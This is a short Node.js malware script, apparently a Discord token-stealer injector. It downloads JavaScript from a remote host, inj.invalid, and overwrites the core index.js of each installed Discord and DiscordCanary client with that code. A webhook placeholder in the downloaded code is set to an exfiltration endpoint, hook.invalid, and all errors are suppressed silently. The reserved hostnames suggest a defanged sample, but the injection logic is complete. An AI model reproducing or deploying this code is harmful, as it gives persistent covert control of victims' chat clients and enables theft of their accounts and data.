const fs = require('fs'), path = require('path'), axios = require('axios');
const base = path.join(process.env.LOCALAPPDATA || '/nonexistent', 'no-such');
const clients = ['Discord', 'DiscordCanary'];
async function inject() {
  const { data } = await axios.get('https://inj.invalid/index.js');
  for (const c of clients) {
    const dir = path.join(base, c);
    if (!fs.existsSync(dir)) continue;
    for (const v of fs.readdirSync(dir).filter(x => x.startsWith('app-'))) {
      const f = path.join(dir, v, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
      fs.writeFileSync(f, data.replace('%WEBHOOK%', 'https://hook.invalid'));
    }
  }
}
inject().catch(() => {});
